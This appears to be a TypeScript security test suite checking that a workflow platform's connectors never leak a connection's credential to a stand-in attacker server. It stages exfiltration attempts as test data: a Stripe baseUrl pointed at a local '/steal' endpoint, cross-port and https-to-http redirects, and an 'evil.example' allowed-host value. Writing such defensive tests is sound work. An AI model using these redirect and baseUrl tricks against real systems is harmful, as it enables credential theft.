import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer as createHttpsServer, type Server as HttpsServer } from 'node:https';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connect, type NatsConnection, type Subscription } from 'nats';
import { Client } from 'pg';
import { FakeThirdParty } from '@junction/connector-sdk/testing';
import { databaseUrl } from '@junction/platform/database';
import { TEST_SERVERS, uniqueNamespace, waitFor } from '@junction/shared/testing';
import { Cluster } from '../cluster-harness';
import { OtlpReceiver } from '../otlp-receiver';

/** The credential every attempt tries to get out; characters that change under URL and JSON encoding on purpose. */
const CANARY = `cAn@ry/${randomBytes(9).toString('hex')}+"x`;
const USER = 'svc';
/** Every form in which the canary could travel or be echoed. */
const FORMS = [
  CANARY,
  encodeURIComponent(CANARY),
  new URLSearchParams({ p: CANARY }).toString().slice(2),
  JSON.stringify(CANARY).slice(1, -1),
  Buffer.from(CANARY).toString('base64'),
  Buffer.from(`${USER}:${CANARY}`).toString('base64'),
];

const leaks = (text: string): string[] => FORMS.filter((form) => text.includes(form));
/** An OAuth code and state sent to the callback: they must not reach an exported span. */
const OAUTH_CANARY = `oauthcanary${randomBytes(9).toString('hex')}`;

/** A self-signed certificate for 127.0.0.1, trusted by the connectors process through NODE_EXTRA_CA_CERTS. */
function selfSigned(dir: string): { key: Buffer; cert: Buffer; certPath: string } {
  const keyPath = join(dir, 'key.pem');
  const certPath = join(dir, 'cert.pem');
  execFileSync(
    'openssl',
    ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', keyPath, '-out', certPath, '-days', '1', '-subj', '/CN=127.0.0.1', '-addext', 'subjectAltName=IP:127.0.0.1'],
    {
      stdio: 'ignore',
    },
  );
  return { key: readFileSync(keyPath), cert: readFileSync(certPath), certPath };
}

/**
 * Hostile tier, class 4: a builder who may write recipes but never read a connection's secret
 * tries to get it out through the connectors. A canary server stands for the attacker's host;
 * the canary credential must never reach it, and must not show up — raw, base64, URL-encoded —
 * in any API answer, stored row, service log line or NATS message of the run.
 */
describe('credential exfiltration through recipes (hostile)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'junction-exfil-'));
  const tls = selfSigned(dir);
  // every service exports its spans to a receiver of the test's own: the sweep covers them too
  const spans = new OtlpReceiver();
  let cluster: Cluster;
  const canary = new FakeThirdParty();
  const home = new FakeThirdParty();
  let secure: HttpsServer;
  let securePort = 0;
  let nc: NatsConnection;
  let sub: Subscription;
  const natsSeen: string[] = [];
  const apiSeen: string[] = [];
  let stripeConn = '';
  let httpConn = '';
  let secureConn = '';

  const call = async <T = Record<string, unknown>>(method: string, path: string, body?: unknown) => {
    const reply = await cluster.call<T>(method, path, body);
    apiSeen.push(JSON.stringify(reply.body), JSON.stringify([...reply.headers]));
    return reply;
  };

  /** Runs a one-step manual recipe to its end and answers the job as the API shows it. */
  async function run(name: string, step: Record<string, unknown>): Promise<{ status: string; steps: { status: string; error?: { message?: string } }[] }> {
    const recipe = await call<{ id: string }>('POST', '/v1/recipes', { name, trigger: { type: 'manual' }, steps: [{ id: 'call', ...step }] });
    expect(recipe.status).toBe(201);
    const ran = await call<{ jobId: string; status: string }>('POST', `/v1/recipes/${recipe.body.id}/runs?wait=true&timeoutMs=30000`, {});
    expect(ran.status).toBe(200);
    const jobId = ran.body.jobId;
    return waitFor(
      async () => {
        const job = await call<{ status: string; steps: { status: string; error?: { message?: string } }[] }>('GET', `/v1/jobs/${jobId}`);
        return ['succeeded', 'failed', 'cancelled'].includes(job.body.status) ? job.body : undefined;
      },
      30_000,
      200,
    );
  }

  beforeAll(async () => {
    await Promise.all([canary.start(), home.start(), spans.start()]);
    cluster = new Cluster(uniqueNamespace('hx_exfil'), {
      NODE_EXTRA_CA_CERTS: tls.certPath,
      OTEL_EXPORTER_OTLP_ENDPOINT: spans.url,
      OTEL_EXPORTER_OTLP_PROTOCOL: 'http/json',
      OTEL_BSP_SCHEDULE_DELAY: '200',
    });
    canary.on('*', '/steal', { json: { thanks: true } });
    home
      .on('GET', '/echo', (req) => ({ json: { youSent: req.headers, query: req.query } }))
      .on('GET', '/to-other-port', { redirectTo: `${canary.url}/steal` })
      .on('POST', '/to-other-port-307', { status: 307, redirectTo: `${canary.url}/steal` });
    secure = createHttpsServer({ key: tls.key, cert: tls.cert }, (req, res) => {
      // an allowed https host that sends the client down to plain http elsewhere
      res.writeHead(302, { location: `${canary.url}/steal` }).end();
    });
    await new Promise<void>((resolve) => secure.listen(0, '127.0.0.1', () => resolve()));
    securePort = (secure.address() as { port: number }).port;

    await cluster.start(['gateway', 'auth', 'connectors', 'executor']);
    // connections are made by whoever holds the secret; what follows is what a recipe author can do with them
    const stripe = await cluster.call<{ id: string }>('POST', '/v1/connections', { name: 'stripe', connector: 'stripe', credentials: { token: CANARY } });
    const http = await cluster.call<{ id: string }>('POST', '/v1/connections', {
      name: 'crm',
      connector: 'http',
      credentials: { kind: 'basic', username: USER, password: CANARY, allowedHosts: home.url },
    });
    const tlsOnly = await cluster.call<{ id: string }>('POST', '/v1/connections', {
      name: 'tls api',
      connector: 'http',
      credentials: { token: CANARY, allowedHosts: `127.0.0.1:${securePort}` },
    });
    expect([stripe.status, http.status, tlsOnly.status]).toEqual([201, 201, 201]);
    [stripeConn, httpConn, secureConn] = [stripe.body.id, http.body.id, tlsOnly.body.id];

    nc = await connect({ servers: TEST_SERVERS.nats });
    sub = nc.subscribe(`${cluster.namespace}.>`);
    void (async () => {
      for await (const m of sub) natsSeen.push(`${m.subject} ${JSON.stringify(m.headers ? [...m.headers] : [])} ${Buffer.from(m.data).toString('utf8')}`);
    })();
  }, 180_000);

  afterAll(async () => {
    sub?.unsubscribe();
    await nc?.drain();
    await cluster?.stop();
    await Promise.all([canary.close(), home.close(), spans.close(), new Promise((r) => secure?.close(r))]);
    rmSync(dir, { recursive: true, force: true });
  }, 60_000);

  it('stripe: a recipe baseUrl pointing at the canary fails the step, and nothing reaches the canary', async () => {
    const job = await run('stripe to canary', { action: 'stripe.retrieve_customer', connection: stripeConn, input: { baseUrl: canary.url, id: 'cus_1' } });
    expect(job.status).toBe('failed');
    expect(job.steps[0].error?.message).toMatch(/refused to send the credentials of connection .* bound to api\.stripe\.com/);
    expect(canary.requests).toHaveLength(0);
  });

  it('stripe: baseUrl over plain http to its own host is refused too (no downgrade)', async () => {
    const job = await run('stripe downgrade', { action: 'stripe.retrieve_customer', connection: stripeConn, input: { baseUrl: 'http://api.stripe.com', id: 'cus_1' } });
    expect(job.status).toBe('failed');
    expect(job.steps[0].error?.message).toMatch(/refused to send the credentials/);
  });

  it('http: a URL outside the connection’s allowed hosts is refused before anything is sent', async () => {
    const job = await run('http to canary', { action: 'http.request', connection: httpConn, input: { method: 'GET', url: `${canary.url}/steal` } });
    expect(job.status).toBe('failed');
    expect(canary.requests).toHaveLength(0);
  });

  it('http: an allowed host redirecting to another port gets there without the credentials; a 307 does not re-send them', async () => {
    const followed = await run('redirect away', { action: 'http.request', connection: httpConn, input: { method: 'GET', url: `${home.url}/to-other-port` } });
    expect(followed.status).toBe('succeeded');
    expect(canary.requests).toHaveLength(1);
    expect(canary.requests[0].headers.authorization).toBeUndefined();
    const posted = await run('redirect away 307', {
      action: 'http.request',
      connection: httpConn,
      input: { method: 'POST', url: `${home.url}/to-other-port-307`, body: { a: 1 } },
    });
    expect(posted.status).toBe('succeeded');
    expect(canary.requests).toHaveLength(2);
    expect(canary.requests[1].headers.authorization).toBeUndefined();
    expect(home.requestsTo('/to-other-port')[0].headers.authorization).toBe(`Basic ${Buffer.from(`${USER}:${CANARY}`).toString('base64')}`);
  });

  it('https → http: a redirect from the allowed https host down to plain http drops the token', async () => {
    const before = canary.requests.length;
    const job = await run('downgrade', { action: 'http.request', connection: secureConn, input: { method: 'GET', url: `https://127.0.0.1:${securePort}/x` } });
    expect(job.status).toBe('succeeded');
    expect(canary.requests.length).toBe(before + 1);
    expect(canary.requests[before].headers.authorization).toBeUndefined();
  });

  it('an allowed host that echoes the credential back: the step output keeps none of its encodings', async () => {
    const job = await run('echo', { action: 'http.request', connection: httpConn, input: { method: 'GET', url: `${home.url}/echo` } });
    expect(job.status).toBe('succeeded');
    expect(JSON.stringify(job)).toContain('[redacted]');
  });

  it('a connection whose allowedHosts is not a host list is refused when written (4xx naming the field)', async () => {
    const res = await cluster.call<{ errors?: { path: string }[] }>('POST', '/v1/connections', {
      name: 'bad hosts',
      connector: 'http',
      credentials: { token: 'tok_unused', allowedHosts: 'https://evil.example/path' },
    });
    expect([400, 422]).toContain(res.status);
    expect(res.body.errors?.map((e) => e.path)).toContain('credentials.allowedHosts');
  });

  it('an OAuth callback with a code and state is refused (unknown state)', async () => {
    const res = await cluster.call('GET', `/v1/oauth/callback?code=${OAUTH_CANARY}&state=${OAUTH_CANARY}`);
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
  });

  it('the canary appears nowhere: canary server, API answers, stored rows, service logs, NATS messages, exported spans', async () => {
    expect(leaks(JSON.stringify(canary.requests))).toEqual([]);
    expect(leaks(apiSeen.join('\n'))).toEqual([]);
    const rows: string[] = [];
    for (const service of ['executor', 'connectors']) {
      const db = new Client({ connectionString: databaseUrl(TEST_SERVERS.postgres, `${cluster.namespace}_${service}`) });
      await db.connect();
      try {
        const tables = await db.query<{ table_name: string }>(`SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'`);
        for (const { table_name } of tables.rows) {
          const dump = await db.query<{ row: string }>(`SELECT row_to_json(t)::text AS row FROM "${table_name}" t`);
          rows.push(...dump.rows.map((r) => `${service}.${table_name} ${r.row}`));
        }
      } finally {
        await db.end();
      }
    }
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.filter((r) => leaks(r).length > 0)).toEqual([]);
    const logs = [...cluster.services.values()].flatMap((s) => s.output.map((line) => `${s.name}: ${line}`));
    expect(logs.length).toBeGreaterThan(0);
    expect(logs.filter((l) => leaks(l).length > 0)).toEqual([]);
    expect(natsSeen.length).toBeGreaterThan(0);
    expect(natsSeen.filter((m) => leaks(m).length > 0)).toEqual([]);
    // the spans of all of the above, exported (in at most 200 ms) by every service: none carries
    // the credential, nor the OAuth callback's code and state
    await waitFor(
      () =>
        spans.spans.some((s) => s.service === 'junction-connectors') &&
        spans.spans.some(
          (s) => s.attributes['http.route'] === '/v1/oauth/callback' || String(s.attributes['http.target'] ?? s.attributes['url.path'] ?? '').startsWith('/v1/oauth/callback'),
        ),
      15_000,
    );
    expect(spans.bodies.filter((b) => leaks(b).length > 0 || b.includes(OAUTH_CANARY))).toEqual([]);
  });
});
